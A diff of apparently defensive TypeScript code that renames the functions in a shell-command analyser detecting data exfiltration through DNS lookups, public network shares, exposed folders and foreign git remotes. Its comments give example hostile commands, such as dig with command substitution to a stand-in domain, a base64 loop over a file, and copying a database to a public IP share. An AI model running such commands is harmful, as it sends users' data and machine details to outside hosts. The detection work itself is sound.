@@ -2,7 +2,7 @@ import { isExfiltrationHost } from '@ase/url-analysis'
 import { type Command, type Line, UNKNOWN, type Word } from '../model/model.ts'
 import { isForeignSource } from './package-sources.ts'
 
-const nameTools: ReadonlySet<string> = new Set([
+const dnsClients: ReadonlySet<string> = new Set([
   'dig',
   'nslookup',
   'host',
@@ -15,8 +15,8 @@ const nameTools: ReadonlySet<string> = new Set([
 ])
 
 /** `dig $(whoami).drop.example`: what a command printed becomes a label of a name that someone else resolves. */
-export function leaksByName({ name, words }: Command): boolean {
-  if (!nameTools.has(name)) return false
+export function leaksThroughDns({ name, words }: Command): boolean {
+  if (!dnsClients.has(name)) return false
   return words.some(
     ({ text, substitutions }) =>
       (substitutions.length > 0 || /\uE000.{0,80}\uE000/.test(text)) && endsInDomain(text),
@@ -33,12 +33,12 @@ const encoders: ReadonlySet<string> = new Set([
 ])
 
 /** `for c in $(base64 -w30 file); do dig $c.x.example; done`: a file, piece by piece, as labels of names. */
-export function leaksByLoop(lines: readonly Line[]): boolean {
+export function leaksThroughDnsLoop(lines: readonly Line[]): boolean {
   let encodes = false
   for (const { commands } of lines)
     for (const command of commands) {
       encodes ||= encoders.has(command.name) || loopsOverEncoded(command)
-      if (encodes && nameTools.has(command.name) && command.words.some(isUnseenLabel)) return true
+      if (encodes && dnsClients.has(command.name) && command.words.some(isUnseenLabel)) return true
     }
   return false
 }
@@ -67,7 +67,7 @@ function endsInDomain(text: string): boolean {
   return labels.length > 2 && labels.every((label) => /^[a-z0-9-]{0,63}$/i.test(label))
 }
 
-const facts: ReadonlySet<string> = new Set([
+const machineDetailPrograms: ReadonlySet<string> = new Set([
   'whoami',
   'id',
   'uname',
@@ -84,8 +84,8 @@ const facts: ReadonlySet<string> = new Set([
 ])
 
 /** Does the command tell about the machine and its users? */
-export function sendsMachineDetails({ name, args }: Command): boolean {
-  if (facts.has(name)) return true
+export function printsMachineDetails({ name, args }: Command): boolean {
+  if (machineDetailPrograms.has(name)) return true
   return (
     name === 'cat' &&
     args.some((arg) =>
@@ -97,7 +97,7 @@ export function sendsMachineDetails({ name, args }: Command): boolean {
 }
 
 /** A host that says nothing about whose it is: a bare public IP address, or a place that takes in anything. */
-export function isNamelessHost(text: string): boolean {
+export function isUnidentifiedHost(text: string): boolean {
   const host =
     /^(?:[a-z]{2,6}:\/\/)?(?:[^@/\s]{1,80}@)?(\d{1,3}(?:\.\d{1,3}){3})(?:[:/?#]|$)/i.exec(
       text.slice(0, 300),
@@ -107,7 +107,7 @@ export function isNamelessHost(text: string): boolean {
 }
 
 /** Programs that copy to where their last operand says, a share of another machine included. */
-export const copiers: ReadonlySet<string> = new Set([
+export const copyPrograms: ReadonlySet<string> = new Set([
   'cp',
   'copy',
   'copy-item',
@@ -119,17 +119,17 @@ export const copiers: ReadonlySet<string> = new Set([
 ])
 
 /** `copy db.sql \\203.0.113.5\share`: a share on a public machine without a name. */
-export function copiesToShare({ name, args }: Command): boolean {
-  if (!copiers.has(name)) return false
+export function copiesToPublicShare({ name, args }: Command): boolean {
+  if (!copyPrograms.has(name)) return false
   return args.some((arg, at) => {
     if (at === 0 || !arg.startsWith('\\')) return false
     const host = arg.replace(/^\\{1,4}/, '')
-    return /^\d/.test(host) && isNamelessHost(host.slice(0, 64).replace(/\\/g, '/'))
+    return /^\d/.test(host) && isUnidentifiedHost(host.slice(0, 64).replace(/\\/g, '/'))
   })
 }
 
 /** A web server over a folder that holds the system or a whole home. */
-export function servesOnAllInterfaces({ name, args }: Command): boolean {
+export function servesPrivateFolder({ name, args }: Command): boolean {
   const at = args.findIndex((arg) => /^(?:-h|-d|--directory|-t|--dir|--root)$/.test(arg))
   const folder = args[at + 1] ?? ''
   if (at < 0 || !/^(?:\/|~|\/(?:etc|root|home|var|Users)(?:\/[\w.-]{1,60})?)\/?$/.test(folder))
@@ -149,7 +149,7 @@ export function pushesToThirdParty({ name, args }: Command): boolean {
   return (
     (verb === 'push' ||
       (verb === 'remote' && /^(?:add|set-url)$/.test(args[args.indexOf('remote') + 1] ?? ''))) &&
-    (args.some(isNamelessHost) ||
+    (args.some(isUnidentifiedHost) ||
       // All refs, to a URL that is no remote of the repository.
       (args.some((arg) => arg === '--all' || arg === '--mirror') && args.some(isForeignSource)))
   )
